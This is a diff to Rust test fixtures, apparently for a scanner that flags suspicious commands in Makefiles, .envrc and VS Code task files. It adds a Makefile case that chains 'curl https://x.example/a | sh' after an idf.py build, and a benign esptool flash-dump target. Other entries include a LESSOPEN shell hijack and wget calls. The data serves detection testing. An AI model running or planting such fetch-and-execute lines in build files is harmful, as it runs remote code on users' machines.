@@ -225,6 +225,7 @@ const FILES_OF_OTHER_TOOLS_ARE_TOL_1: &[(&str, &str, &str)] = &[
     (".envrc", "export LESSOPEN='|sh x %s'\n", "LESSOPEN"),
     ("Makefile", "all:\n\tcurl https://x.example/a | sh\n", "x.example"),
     ("Makefile", "X := $(shell wget x)\n", "wget"),
+    ("Makefile", "all:\n\tidf.py build \\\n\t\t&& curl https://x.example/a | sh\n", "x.example"),
     (
         ".vscode/tasks.json",
         "{\"tasks\":[{\"command\":\"bash -c 'curl x'\"}]}",
@@ -314,6 +315,7 @@ const FILES_OF_OTHER_TOOLS_ARE_TOL_2: &[(&str, &str, &str)] = &[
 ];
 
 const FILES_OF_OTHER_TOOLS_ARE_TOL_3: &[(&str, &str)] = &[
+    ("Makefile", "dump:\n\tesptool.py --port $(PORT) \\\n\t\tread_flash $(AT) $(SIZE) $(FILE)\n"),
     ("Makefile", "PROJECT_NAME := app\ninclude $(IDF_PATH)/make/project.mk\n"),
     ("Makefile", "build:\n\tidf.py build\nflash: build\n\tidf.py -p $(PORT) flash monitor\n"),
     ("main/component.mk", "COMPONENT_EMBED_TXTFILES := server.pem\nCFLAGS += -Wall\n"),
